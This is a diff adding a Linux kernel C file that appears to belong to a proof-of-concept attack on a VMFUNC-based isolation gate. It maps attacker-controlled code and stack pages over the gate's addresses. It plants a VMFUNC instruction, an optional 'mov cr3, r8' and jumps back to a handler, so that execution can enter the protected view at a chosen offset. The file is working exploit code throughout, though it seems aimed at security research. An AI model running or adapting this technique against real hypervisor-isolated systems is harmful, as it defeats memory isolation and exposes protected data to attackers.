@@ -1,0 +1,68 @@
+// SPDX-License-Identifier: GPL-2.0-or-later
+/* See attack.h. */
+
+#include <linux/gfp.h>
+#include <linux/io.h>
+#include <linux/mm.h>
+#include <linux/string.h>
+
+#include "attack.h"
+#include "gate_offsets.h"
+
+/* An exception in view 0 with RSP at the list is handled on these, from the list's page downwards. */
+#define STACK_ORDER 2
+#define STACK_PAGES (1 << STACK_ORDER)
+
+static const u8 vmfunc[] = { 0x0f, 0x01, 0xd4 };
+static const u8 mov_cr3_r8[] = { 0x41, 0x0f, 0x22, 0xd8 };
+
+int page_create(struct attack_page *page)
+{
+	unsigned long list = (unsigned long)gate + SM_VA_LIST;
+	int i, err = tables_create(&page->tables);
+
+	page->code = (u8 *)__get_free_pages(GFP_KERNEL, 1);
+	page->stack = (u8 *)__get_free_pages(GFP_KERNEL, STACK_ORDER);
+	if (err || !page->code || !page->stack) {
+		page_destroy(page);
+		return -ENOMEM;
+	}
+	for (i = 0; i < 2 && !err; i++)
+		err = tables_map(&page->tables, (unsigned long)gate + (i - 1) * PAGE_SIZE,
+				 virt_to_phys(page->code) + i * PAGE_SIZE);
+	for (i = 0; i < STACK_PAGES && !err; i++)
+		err = tables_map(&page->tables, list - (STACK_PAGES - 1 - i) * PAGE_SIZE,
+				 virt_to_phys(page->stack) + i * PAGE_SIZE);
+	if (err)
+		page_destroy(page);
+	return err;
+}
+
+void page_destroy(struct attack_page *page)
+{
+	free_pages((unsigned long)page->code, 1);
+	free_pages((unsigned long)page->stack, STACK_ORDER);
+	tables_destroy(&page->tables);
+}
+
+/* jmp *0(%rip) to run_back */
+static void put_way_back(u8 *at)
+{
+	static const u8 jump[] = { 0xff, 0x25, 0, 0, 0, 0 };
+	u64 target = (u64)run_back;
+
+	memcpy(at, jump, sizeof(jump));
+	memcpy(at + sizeof(jump), &target, sizeof(target));
+}
+
+void page_aim(struct attack_page *page, unsigned int offset, bool late_cr3)
+{
+	u8 *at = page->code + PAGE_SIZE + offset - sizeof(vmfunc);
+
+	memset(page->code, 0xcc, 2 * PAGE_SIZE);
+	put_way_back(page->code + PAGE_SIZE + GATE_LEAVE_OFFSET);
+	put_way_back(page->code + PAGE_SIZE + SM_VA_RETURN);
+	memcpy(at, vmfunc, sizeof(vmfunc));
+	if (late_cr3)
+		memcpy(at - sizeof(mov_cr3_r8), mov_cr3_r8, sizeof(mov_cr3_r8));
+}
